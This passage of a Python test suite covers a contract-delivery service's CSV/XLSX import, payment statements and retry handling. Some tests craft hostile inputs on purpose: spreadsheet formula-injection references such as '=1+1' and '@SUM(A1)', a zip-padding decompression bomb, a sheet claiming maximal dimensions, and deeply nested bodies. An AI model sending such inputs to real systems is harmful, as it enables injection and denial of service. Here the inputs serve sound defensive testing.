        case = referred_case(desk, market)
        references = ["+3", "-2", "=1+1", "@SUM(A1)", "P-1"]  # as the export orders them
        for reference in references:
            assert deliver(api, market, case["id"], reference, units=1).status_code == 201
        url = f"/v1/contracts/{market['contract']['id']}/deliveries"
        exported = api.client.get(url, params={"format": fmt}, headers=market["contractor"]).content
        content, kind = (saved(exported), XLSX) if saved else (exported, XLSX if fmt == "xlsx" else "text/csv")
        r = api.client.post(f"{url}/import", content=content, headers={**market["contractor"], "Content-Type": kind})
        assert [(i["reference"], i["result"]) for i in r.json()["items"]] == [(ref, "duplicate") for ref in references]
        ledger = api.client.get(f"/v1/contracts/{market['contract']['id']}", headers=market["supervisor"]).json()
        assert ledger["delivered_units"] == len(references)

    def test_a_sheet_that_claims_to_reach_its_last_row_and_column_is_read_as_wide_as_its_header(self, api, market):
        """openpyxl pads each row to the sheet's claimed width: 16,384 cells a row held the server for minutes."""
        book = Workbook()
        book.active.append(["case_id", "delivered_on", "units", "reference"])
        book.active.cell(row=40, column=16_384, value="far")
        assert book.active.dimensions == "A1:XFD40"
        rows = list(_xlsx(workbook_bytes(book)))
        assert len(rows) == 40 and {len(row) for row in rows[1:]} == {4}
        book.active.cell(row=1, column=16_384, value="备注")  # a note far right of the titles widens nothing
        rows = list(_xlsx(workbook_bytes(book)))
        assert {len(row) for row in rows} == {4}
        book.active.cell(row=1_048_576, column=16_384, value="farther")
        r = api.client.post(f"/v1/contracts/{market['contract']['id']}/deliveries/import",
                            content=workbook_bytes(book), headers={**market["contractor"], "Content-Type": XLSX})
        assert r.status_code == 200 and r.json()["items"] == []

    def test_a_workbook_that_unpacks_past_its_limit_is_422(self, api, market):
        """Its table of shared strings is read whole: 417 KB that unpacked to 170 MB took a gigabyte."""
        packed = io.BytesIO(workbook_bytes(Workbook()))
        with zipfile.ZipFile(packed, "a", zipfile.ZIP_DEFLATED) as archive:
            archive.writestr("xl/padding.xml", b"\0" * (MAX_UNPACKED + 1))
        r = api.client.post(f"/v1/contracts/{market['contract']['id']}/deliveries/import", content=packed.getvalue(),
                            headers={**market["contractor"], "Content-Type": XLSX})
        assert r.status_code == 422 and "unpacks to more than" in r.json()["errors"][0]["reason"]

    def test_an_upload_past_its_limit_is_413_though_sent_in_chunks(self, api, market):
        url = f"/v1/contracts/{market['contract']['id']}/deliveries/import"
        chunks = iter([b"x" * 2**20] * (UPLOAD_BODY // 2**20 + 1))
        r = api.client.post(url, content=chunks, headers={**market["contractor"], "Content-Type": "text/csv"})
        assert (r.status_code, r.headers["content-type"]) == (413, "application/problem+json")

    def test_a_file_without_the_columns_is_422(self, api, market):
        r = api.client.post(f"/v1/contracts/{market['contract']['id']}/deliveries/import", content=b"a,b\n1,2\n",
                            headers={**market["contractor"], "Content-Type": "text/csv"})
        assert r.status_code == 422 and r.json()["errors"][0]["field"] == "file"

    def test_ten_thousand_rows_import_once(self, api, desk, market):
        case = referred_case(desk, market)
        big = {**market["body"], "budget": "9999999.00"}
        contract = api.client.post("/v1/contracts", json=big, headers=market["supervisor"]).json()
        desk.post(f"/v1/cases/{case['id']}/referral", {"contract_id": contract["id"]})
        rows = [(case["id"], TODAY, 1, f"BULK-{n:05d}") for n in range(10_000)]
        url = f"/v1/contracts/{contract['id']}/deliveries/import"
        headers = {**market["contractor"], "Content-Type": "text/csv"}
        assert api.client.post(url, content=csv_file(rows), headers=headers).json()["recorded"] == 10_000
        assert api.client.post(url, content=csv_file(rows), headers=headers).json()["duplicate"] == 10_000
        ledger = api.client.get(f"/v1/contracts/{contract['id']}", headers=market["supervisor"]).json()
        assert ledger["delivered_units"] == 10_000


def rewritten(book: Workbook, part: str, change) -> bytes:
    """The workbook saved, with one part of it (its XML) changed as no spreadsheet program would write it."""
    packed, out = zipfile.ZipFile(io.BytesIO(workbook_bytes(book))), io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for item in packed.infolist():
            data = packed.read(item)
            archive.writestr(item, change(data.decode()).encode() if item.filename == part else data)
    return out.getvalue()


class TestCellsAsRead:
    """What a contractor's file reads as, whatever the store."""

    CASE = str(uuid4())
    HEADER = "case_id,delivered_on,units,reference,备注\n"

    def test_a_quote_left_open_refuses_the_file_naming_its_row_instead_of_swallowing_the_rows_after(self):
        day = TODAY.isoformat()
        swallowing = (f'{self.CASE},{day},1,MQ-1,ok\n{self.CASE},{day},1,MQ-2,"上门\n{self.CASE},{day},1,MQ-3,x\n'
                      f'{self.CASE},{day},1,MQ-4,家属说"\n{self.CASE},{day},1,MQ-5,好\n')
        with pytest.raises(InvalidInput, match=re.escape("row 3 (lines 3-5)")):
            read_rows((self.HEADER + swallowing).encode(), "text/csv")
        for unreadable in (f'{self.CASE},{day},1,MQ-1,"上门\n{self.CASE},{day},1,MQ-2,x\n',
                           f'{self.CASE},{day},1,MQ-1,"上门"了\n'):
            with pytest.raises(InvalidInput, match=re.escape("row 2 (from line 2) is not readable CSV")):
                read_rows((self.HEADER + unreadable).encode(), "text/csv")
        # A note with line breaks (Alt+Enter), commas in it or not, is a value like any other.
        note_over_lines = (f'{self.CASE},{day},1,MQ-1,"上门服务\n家属在场"\n{self.CASE},{day},1,MQ-2,"说""好"""\n'
                           f'{self.CASE},{day},1,MQ-3,"visited, ok\nnext week, again"\n')
        rows = read_rows((self.HEADER + note_over_lines).encode(), "text/csv")
        assert [(n, row.reference) for n, row in rows.items()] == [(2, "MQ-1"), (3, "MQ-2"), (4, "MQ-3")]

    def test_a_sheet_claiming_a_row_past_the_last_a_sheet_can_have_is_read_only_that_far(self):
        book = Workbook()
        book.active.append(["case_id", "delivered_on", "units", "reference"])
        book.active.append([self.CASE, TODAY, 1, "FAR-1"])
        far = rewritten(book, "xl/worksheets/sheet1.xml",
                        lambda xml: re.sub(r'([ "])([A-D]?)2"', r'\g<1>\g<2>1000000000000"', xml))
        assert "1000000000000" in zipfile.ZipFile(io.BytesIO(far)).read("xl/worksheets/sheet1.xml").decode()
        assert read_rows(far, XLSX) == {}

    def test_days_in_the_formats_excel_set_to_chinese_saves_by_number_alone_are_days(self):
        book = Workbook()
        book.active.append(["案件编号", "服务日期", "数量", "报告编号"])
        book.active.append([self.CASE, datetime(2026, 12, 8), 1, "CN-1"])
        book.active["B2"].number_format = 'yyyy"年"m"月"d"日"'
        builtin = rewritten(book, "xl/styles.xml", lambda xml: re.sub(r'(<xf [^>]*numFmtId=")165"', r'\g<1>31"', xml))
        assert 'numFmtId="31"' in zipfile.ZipFile(io.BytesIO(builtin)).read("xl/styles.xml").decode()
        assert read_rows(builtin, XLSX)[2].delivered_on == date(2026, 12, 8)

    def test_an_error_a_truth_value_or_a_time_in_a_cell_is_no_reference(self):
        book = Workbook()
        book.active.append(["case_id", "delivered_on", "units", "reference"])
        for reference in ("#N/A", True, datetime(2026, 12, 8, 10, 30).time(), "#REF!"):
            book.active.append([self.CASE, TODAY, 1, reference])
        assert book.active["D2"].data_type == "e"
        assert [row.reference for row in read_rows(workbook_bytes(book), XLSX).values()] == [
            None, True, datetime(2026, 12, 8, 10, 30).time(), None]


class TestStatements:
    def test_a_statement_regenerated_after_later_deliveries_is_identical(self, api, desk, market):
        case = referred_case(desk, market)
        base = f"/v1/contracts/{market['contract']['id']}"
        first = deliver(api, market, case["id"], "S-1", units=2).json()
        accepted = desk.post(f"{base}/deliveries/{first['id']}/review", {"accepted": True})
        period = TODAY.strftime("%Y-%m")
        issued = api.client.post(f"{base}/statements", json={"period": period}, headers=market["supervisor"])
        assert issued.status_code == 201 and issued.json()["total"] == "160.00"
        # frozen where the contract records what it lists, just before the statement itself
        frozen = issued.json()["frozen_at_position"]
        assert int(accepted.headers["x-position"]) < frozen < int(issued.headers["x-position"])
        later = deliver(api, market, case["id"], "S-2", units=1).json()
        desk.post(f"{base}/deliveries/{later['id']}/review", {"accepted": True})
        again = api.client.get(issued.headers["location"], headers=market["contractor"])
        assert again.content == issued.content

    def test_a_later_statement_for_the_month_lists_only_what_no_earlier_one_did(self, api, desk, market):
        case = referred_case(desk, market)
        base, period = f"/v1/contracts/{market['contract']['id']}", TODAY.strftime("%Y-%m")
        for reference in ("T-1", "T-2"):
            delivered = deliver(api, market, case["id"], reference, units=1).json()
            desk.post(f"{base}/deliveries/{delivered['id']}/review", {"accepted": True})
            if reference == "T-1":
                first = api.client.post(f"{base}/statements", json={"period": period}, headers=market["supervisor"])
        supplement = api.client.post(f"{base}/statements", json={"period": period}, headers=market["supervisor"])
        assert [line["reference"] for line in first.json()["lines"]] == ["T-1"] and first.json()["follows"] == []
        assert [line["reference"] for line in supplement.json()["lines"]] == ["T-2"]
        assert supplement.json()["total"] == "80.00" and supplement.json()["follows"] == [first.json()["id"]]
        again = api.client.post(f"{base}/statements", json={"period": period}, headers=market["supervisor"])
        assert again.status_code == 409 and supplement.json()["id"] in again.json()["detail"]

    def test_a_statement_issued_before_statements_marked_their_lines_reads_and_counts_as_issued(
            self, api, desk, market, settings):
        """Before 2026-11-30 a statement listed every accepted delivery of its month and marked none (nor
        changed its contract: two issued one after the other name the same version)."""
        case = referred_case(desk, market)
        contract_id, period = market["contract"]["id"], TODAY.strftime("%Y-%m")
        delivered = deliver(api, market, case["id"], "V-1", units=1).json()
        desk.post(f"/v1/contracts/{contract_id}/deliveries/{delivered['id']}/review", {"accepted": True})
        contract = api.app.get_contract(UUID(contract_id))
        old = PaymentStatement._create(PaymentStatement.StatementIssued, actor=ADMIN.as_dict(), contract_id=contract.id,
                                       period=period, contract_version=contract.version)
        month_before = (TODAY.replace(day=1) - timedelta(days=1)).strftime("%Y-%m")
        api.app.save(old, PaymentStatement._create(PaymentStatement.StatementIssued, actor=ADMIN.as_dict(),
                                                   contract_id=contract.id, period=month_before,
                                                   contract_version=contract.version))
        read = api.client.get(f"/v1/contracts/{contract_id}/statements/{old.id}", headers=market["supervisor"]).json()
        assert [line["reference"] for line in read["lines"]] == ["V-1"] and "follows" not in read
        # The first start after the upgrade marks what it listed, so that no statement lists V-1 again; on a
        # store that ran the pass before it marked every one of them too.
        with api.client.app.state.backend.views.write() as tx:
            tx.execute("DELETE FROM upgrades_done")
            tx.execute("INSERT INTO upgrades_done (name) VALUES ('statements issued before 2026-11-30 marked')")
        open_backend(settings).close()
        again = api.client.post(f"/v1/contracts/{contract_id}/statements", json={"period": period},
                                headers=market["supervisor"])
        assert again.status_code == 409 and str(old.id) in again.json()["detail"]
        assert api.client.get(f"/v1/contracts/{contract_id}/statements/{old.id}",
                              headers=market["supervisor"]).json() == read

    def test_two_issued_at_once_never_list_a_delivery_twice(self, api, desk, market):
        case = referred_case(desk, market)
        contract_id, period = UUID(market["contract"]["id"]), TODAY.strftime("%Y-%m")
        delivered = deliver(api, market, case["id"], "U-1", units=1).json()
        desk.post(f"/v1/contracts/{contract_id}/deliveries/{delivered['id']}/review", {"accepted": True})
        assert sorted(at_once(2, lambda: api.app.issue_statement(ADMIN, None, contract_id, period))) == [201, 409]

    def test_only_one_whose_scope_covers_the_whole_contract_may_issue_one(self, api, market):
        body = {**market["body"], "org_units": ["350502", "350503"]}
        contract = api.client.post("/v1/contracts", json=body, headers=api.token("supervisor", "350500")).json()
        url, period = f"/v1/contracts/{contract['id']}/statements", TODAY.strftime("%Y-%m")
        district = api.client.post(url, json={"period": period}, headers=api.token("supervisor", "350503"))
        assert district.status_code == 403 and "350502" in district.json()["detail"]
        city = api.client.post(url, json={"period": period}, headers=api.token("supervisor", "350500"))
        assert city.status_code == 409 and "no delivery accepted" in city.json()["detail"]  # allowed, nothing to list

    def test_a_month_with_nothing_accepted_gets_no_statement(self, api, desk, market):
        """A statement is never taken back: one issued for the wrong month would stand, empty, for good,
        and the month's real statement would be a supplement to it."""
        case = referred_case(desk, market)
        url, period = f"/v1/contracts/{market['contract']['id']}/statements", TODAY.strftime("%Y-%m")
        deliver(api, market, case["id"], "E-1", units=1)  # pending: not yet payable
        before = api.client.get(url.removesuffix("/statements"), headers=market["supervisor"]).json()
        empty = api.client.post(url, json={"period": period}, headers=market["supervisor"])
        assert empty.status_code == 409 and f"no delivery accepted in {period}" in empty.json()["detail"], empty.text
        assert api.client.get(url.removesuffix("/statements"), headers=market["supervisor"]).json() == before

    def test_scoped_staff_read_one_only_of_a_contract_their_scope_covers_whole(self, api, desk, market):
        """A statement pays for the whole contract and reads the same to everyone, so it is not filtered
        per reader: a township's supervisor, who sees the district's contract but not its deliveries
        outside the township, would read them in it."""
        api.app.add_org_units(ADMIN, [OrgUnit("350502001", "海滨街道", "township")])
        case = referred_case(desk, market)  # in Licheng (350502), outside the township
        delivered = deliver(api, market, case["id"], "ST-1", units=1).json()
        desk.post(f"/v1/contracts/{market['contract']['id']}/deliveries/{delivered['id']}/review", {"accepted": True})
        issued = api.client.post(f"/v1/contracts/{market['contract']['id']}/statements",
                                 json={"period": TODAY.strftime("%Y-%m")}, headers=market["supervisor"])
        township, made_up = api.token("supervisor", "350502001"), str(uuid4())
        hidden, absent = (api.client.get(url, headers=township) for url in (
            issued.headers["location"], issued.headers["location"].replace(issued.json()["id"], made_up)))
        assert (hidden.status_code, absent.status_code) == (404, 404)
        assert hidden.json()["detail"] == f"statement {issued.json()['id']} not found"  # as for one that is not
        for reader in (market["supervisor"], market["contractor"], api.token("auditor"), api.token("admin")):
            assert api.client.get(issued.headers["location"], headers=reader).content == issued.content

    def test_a_bad_period_is_422(self, api, market):
        r = api.client.post(f"/v1/contracts/{market['contract']['id']}/statements", json={"period": "2026-1"},
                            headers=market["supervisor"])
        assert r.status_code == 422 and r.json()["errors"][0]["field"] == "period"

    @pytest.mark.parametrize("period", ["0001-01", "9998-12"])
    def test_a_month_outside_the_contract_is_409(self, api, market, period):
        r = api.client.post(f"/v1/contracts/{market['contract']['id']}/statements", json={"period": period},
                            headers=market["supervisor"])
        assert r.status_code == 409 and "none of its months" in r.json()["detail"]


class TestStatementFromTheCommandLine:
    def test_lastmeter_replays_the_same_bytes_from_the_log(self, api, desk, market, cli):
        case = referred_case(desk, market)
        base = f"/v1/contracts/{market['contract']['id']}"
        first = deliver(api, market, case["id"], "C-1", units=2).json()
        desk.post(f"{base}/deliveries/{first['id']}/review", {"accepted": True})
        issued = api.client.post(f"{base}/statements", json={"period": TODAY.strftime("%Y-%m")},
                                 headers=market["supervisor"])
        result = cli("audit", "statement", issued.json()["id"])
        assert result.exit_code == 0, result.output
        assert result.stdout_bytes == issued.content  # byte for byte: a sha256 of either is the same


class TestImportFromTheCommandLine:
    def test_a_file_is_imported_and_each_refused_row_named_by_its_row(self, api, desk, market, cli, tmp_path):
        """The rows refused are named and the others recorded; the exit status says some were refused."""
        case = referred_case(desk, market)
        file = tmp_path / "deliveries.csv"
        file.write_bytes(csv_file([(case["id"], TODAY, 3, "F-1")]) + f"\n{case['id']},{TODAY},two,F-2\n".encode())
        file.with_name("first.csv").write_bytes(csv_file([(case["id"], TODAY, 3, "F-1")]))
        result = cli("import", "deliveries", str(file), "--contract", market["contract"]["id"])
        assert result.exit_code == 2, result.output
        refused = [line for line in result.output.splitlines() if "refused" in line and "F-2" in line]
        assert len(refused) == 1 and refused[0].split()[1] == "4"
        assert "1 recorded, 0 duplicate, 1 refused" in result.output
        ledger = api.client.get(f"/v1/contracts/{market['contract']['id']}", headers=market["supervisor"]).json()
        assert ledger["pending_units"] == 3
        again = cli("import", "deliveries", str(file.with_name("first.csv")), "--contract", market["contract"]["id"])
        assert again.exit_code == 0 and "0 recorded, 1 duplicate, 0 refused" in again.output, again.output


class TestImportRetries:
    def test_a_retried_import_answers_the_first_answer_and_records_nothing(self, api, desk, market):
        case = referred_case(desk, market)
        rows = [(case["id"], TODAY, 1, "I-1"), (case["id"], TODAY, 1, "I-2")]
        url = f"/v1/contracts/{market['contract']['id']}/deliveries/import"
        headers = {**market["contractor"], "Content-Type": "text/csv", "Idempotency-Key": "import-1"}
        first = api.client.post(url, content=csv_file(rows), headers=headers)
        again = api.client.post(url, content=csv_file(rows), headers=headers)
        assert first.json()["recorded"] == 2 and again.json() == first.json()
        assert again.headers["x-position"] == first.headers["x-position"]
        assert again.headers["etag"] == first.headers["etag"] and again.headers["idempotent-replayed"] == "true"
        other = api.client.post(url, content=csv_file(rows[:1]), headers=headers)
        assert other.status_code == 422 and other.json()["errors"][0]["field"] == "Idempotency-Key"
        ledger = api.client.get(f"/v1/contracts/{market['contract']['id']}", headers=market["supervisor"]).json()
        assert ledger["delivered_units"] == 2

    def test_a_retry_answers_the_first_answer_even_where_the_rows_would_now_be_judged_otherwise(
            self, api, desk, market):
        """Refused as not referred the first time; referred before the retry: the retry must not say
        "recorded" for a row that never was."""
        case = desk.open(kind="home_care")
        url = f"/v1/contracts/{market['contract']['id']}/deliveries/import"
        headers = {**market["contractor"], "Content-Type": "text/csv", "Idempotency-Key": "import-late"}
        first = api.client.post(url, content=csv_file([(case["id"], TODAY, 1, "LATE-1")]), headers=headers)
        assert first.json()["refused"] == 1
        desk.post(f"/v1/cases/{case['id']}/referral", {"contract_id": market["contract"]["id"]})
        again = api.client.post(url, content=csv_file([(case["id"], TODAY, 1, "LATE-1")]), headers=headers)
        assert again.headers["idempotent-replayed"] == "true" and again.json() == first.json()
        ledger = api.client.get(f"/v1/contracts/{market['contract']['id']}", headers=market["supervisor"]).json()
        assert ledger["delivered_units"] == 0

    def test_a_retry_whose_file_now_reads_without_a_row_it_answered_still_answers_it(self, api, desk, market):
        """An XLSX row holding only a note beside the columns was a row before 2026-11-30, refused; it now
        reads as blank: the retry of such an import must answer as the first time, not fail."""
        case = referred_case(desk, market)
        key, contractor = Idempotency("ngo-a-staff", "gone-row", "fingerprint"), Actor("ngo-a-staff", "contractor")
        recorded = DeliveryRow(case["id"], TODAY.isoformat(), 1, "G-1")
        first, answered = api.app.import_deliveries(contractor, key, UUID(market["contract"]["id"]),
                                                    {2: recorded, 3: DeliveryRow(None, None, None, None)})
        again, replayed = api.app.import_deliveries(contractor, key, UUID(market["contract"]["id"]), {2: recorded})
        assert again.replayed and [(r.row, r.result, r.reference) for r in replayed] == [
            (2, "recorded", "G-1"), (3, "refused", None)]
        assert [r.reason for r in replayed] == [r.reason for r in answered]

    def test_a_receipt_that_kept_no_rows_has_them_judged_against_the_contract_as_it_stood(self, api, desk, market):
        """A receipt stored before 2026-11-30 kept no per-row results."""
        case = referred_case(desk, market)
        url = f"/v1/contracts/{market['contract']['id']}/deliveries/import"
        content = csv_file([(case["id"], TODAY, 1, "K-1")])
        fingerprint = api.client.app.state.backend.keys.fingerprint(f"POST {url}\ntext/csv\n".encode() + content)
        key = Idempotency("ngo-a-staff", "kept-nothing", fingerprint)
        written, _ = api.app.import_deliveries(Actor("ngo-a-staff", "contractor"), None,
                                               UUID(market["contract"]["id"]), read_rows(content, "text/csv"))
        api.app.save(CommandReceipt.issue(key, replace(written, answer=None)))
        again = api.client.post(url, content=content, headers={**market["contractor"], "Content-Type": "text/csv",
                                                               "Idempotency-Key": "kept-nothing"})
        assert again.headers["idempotent-replayed"] == "true" and again.json()["recorded"] == 1

    def test_a_retry_that_spells_the_media_type_otherwise_is_the_same_request(self, api, desk, market):
        case = referred_case(desk, market)
        url = f"/v1/contracts/{market['contract']['id']}/deliveries/import"
        content = csv_file([(case["id"], TODAY, 1, "T-1")])
        first, again = (api.client.post(url, content=content, headers={**market["contractor"], "Content-Type": kind,
                                                                        "Idempotency-Key": "typed-1"})
                        for kind in ("text/csv", "Text/CSV; charset=utf-8"))
        assert (first.status_code, again.status_code) == (200, 200) and again.json() == first.json()
        assert again.headers["idempotent-replayed"] == "true"

    def test_a_retry_of_an_import_answered_before_media_types_were_normalised_finds_its_answer(
            self, api, desk, market):
        """A receipt stored before 2026-11-30 kept the Content-Type as sent."""
        case = referred_case(desk, market)
        url = f"/v1/contracts/{market['contract']['id']}/deliveries/import"
        content, kind = csv_file([(case["id"], TODAY, 1, "N-1")]), "text/csv; charset=utf-8"
        fingerprint = api.client.app.state.backend.keys.fingerprint(f"POST {url}\n{kind}\n".encode() + content)
        contractor = Actor("ngo-a-staff", "contractor")
        api.app.import_deliveries(contractor, Idempotency(contractor.user, "as-sent", fingerprint),
                                  UUID(market["contract"]["id"]), read_rows(content, kind))
        again = api.client.post(url, content=content, headers={**market["contractor"], "Content-Type": kind,
                                                               "Idempotency-Key": "as-sent"})
        assert again.status_code == 200 and again.headers["idempotent-replayed"] == "true"

    def test_a_retried_multipart_upload_is_the_same_request_whatever_its_boundary(self, api, desk, market):
        case = referred_case(desk, market)
        url = f"/v1/contracts/{market['contract']['id']}/deliveries/import"
        headers = {**market["contractor"], "Idempotency-Key": "upload-1"}
        content = csv_file([(case["id"], TODAY, 1, "M-1")])
        first, again = (api.client.post(url, files={"file": ("d.csv", content, "text/csv")}, headers=headers)
                        for _ in range(2))
        assert (first.status_code, again.status_code) == (200, 200) and again.json() == first.json()
        assert again.headers["idempotent-replayed"] == "true"
        other = api.client.post(url, files={"file": ("d.csv", content + b"\n" + content[-30:], "text/csv")},
                                headers=headers)
        assert other.status_code == 422 and other.json()["errors"][0]["field"] == "Idempotency-Key"

    def test_a_body_nested_too_deep_to_parse_is_answered_not_a_server_error(self, api, desk, market):
        url = f"/v1/contracts/{market['contract']['id']}/deliveries/import"
        deep = b"[" * 5000
        r = api.client.post(url, content=deep, headers={**market["contractor"], "Content-Type": "text/csv",
                                                        "Idempotency-Key": "deep-1"})
        assert r.status_code == 422 and r.json()["errors"][0]["field"] == "file"
        r = api.client.post("/v1/clients", content=deep, headers={**desk.auth, "Content-Type": "text/plain",
                                                                   "Idempotency-Key": "deep-2"})
        assert r.status_code == 422
        r = api.client.post("/v1/clients", files={"file": ("x.csv", b"a")}, headers={**desk.auth,
                                                                                  "Idempotency-Key": "form-1"})
        assert r.status_code == 422

    def test_a_retry_of_an_import_answered_before_fingerprints_were_keyed_finds_its_answer(self, api, desk, market):
        """A receipt written before 2026-11-29 kept a plain SHA-256 of route and body."""
        case = referred_case(desk, market)
        url = f"/v1/contracts/{market['contract']['id']}/deliveries/import"
        content = csv_file([(case["id"], TODAY, 1, "L-1")])
        plain = hashlib.sha256(f"POST {url}\n".encode() + content).hexdigest()
        api.app.import_deliveries(Actor("ngo-a-staff", "contractor"), Idempotency("ngo-a-staff", "old-import", plain),
                                  UUID(market["contract"]["id"]), read_rows(content, "text/csv"))
        again = api.client.post(url, content=content, headers={**market["contractor"], "Content-Type": "text/csv",
                                                               "Idempotency-Key": "old-import"})
        assert again.status_code == 200 and again.headers["idempotent-replayed"] == "true"
        assert again.json()["recorded"] == 1

    def test_an_import_answers_its_position_for_reading_ones_writes(self, api, desk, market):
        case = referred_case(desk, market)
        url = f"/v1/contracts/{market['contract']['id']}/deliveries/import"
        r = api.client.post(url, content=csv_file([(case["id"], TODAY, 1, "P-1")]),
                            headers={**market["contractor"], "Content-Type": "text/csv"})
        position = int(r.headers["x-position"])
        events = api.client.get("/v1/audit/events", params={"min_position": position, "case_id":
                                                           market["contract"]["id"]}, headers=api.token("auditor"))
        assert events.json()["items"][-1]["type"] == "DeliveryReported"


class TestIfMatchOnContracts:
    def test_a_stale_contract_version_is_412_for_deliveries_and_statements(self, api, desk, market):
        case = referred_case(desk, market)
        first = deliver(api, market, case["id"], "M-1")
        stale = {**market["contractor"], "If-Match": '"1"'}
        r = api.client.post(f"/v1/contracts/{market['contract']['id']}/deliveries", headers=stale,
                            json={"case_id": case["id"], "delivered_on": str(TODAY), "units": 1, "reference": "M-2"})
        assert r.status_code == 412
        reviewed = desk.post(f"/v1/contracts/{market['contract']['id']}/deliveries/{first.json()['id']}/review",
                             {"accepted": True})
        current = {**market["supervisor"], "If-Match": reviewed.headers["etag"]}
        r = api.client.post(f"/v1/contracts/{market['contract']['id']}/statements", headers=current,
                            json={"period": TODAY.strftime("%Y-%m")})
        assert r.status_code == 201

    def test_a_resent_report_answers_the_first_answer_whatever_its_if_match(self, api, desk, market):
        """The reference is the contractor's idempotency key: a phone re-sending its report after a timeout,
        If-Match and all, must hear that it was recorded, not that the contract moved on."""
        case = referred_case(desk, market)
        url = f"/v1/contracts/{market['contract']['id']}/deliveries"
        body = {"case_id": case["id"], "delivered_on": TODAY.isoformat(), "units": 1, "reference": "IM-1"}
        headers = {**market["contractor"], "If-Match": f'"{market["contract"]["version"]}"'}
        first, again = (api.client.post(url, json=body, headers=headers) for _ in range(2))
        assert (first.status_code, again.status_code, again.json()) == (201, 201, first.json())
        assert api.client.post(url, json={**body, "reference": "IM-2"}, headers=headers).status_code == 412

    def test_a_resent_import_answers_each_row_as_a_duplicate_whatever_its_if_match(self, api, desk, market):
        """An import that records nothing changes nothing, so a stale version cannot matter to it; one
        that would record a row is 412."""
        case = referred_case(desk, market)
        url = f"/v1/contracts/{market['contract']['id']}/deliveries/import"
        headers = {**market["contractor"], "Content-Type": "text/csv",
                   "If-Match": f'"{market["contract"]["version"]}"'}
        content = csv_file([(case["id"], TODAY, 1, "IMP-1")])
        assert api.client.post(url, content=content, headers=headers).json()["recorded"] == 1
        again = api.client.post(url, content=content, headers=headers)
        assert again.status_code == 200 and again.json()["duplicate"] == 1
        more = csv_file([(case["id"], TODAY, 1, "IMP-1"), (case["id"], TODAY, 1, "IMP-2")])
        assert api.client.post(url, content=more, headers=headers).status_code == 412
        ledger = api.client.get(f"/v1/contracts/{market['contract']['id']}", headers=market["supervisor"]).json()
        assert ledger["delivered_units"] == 1
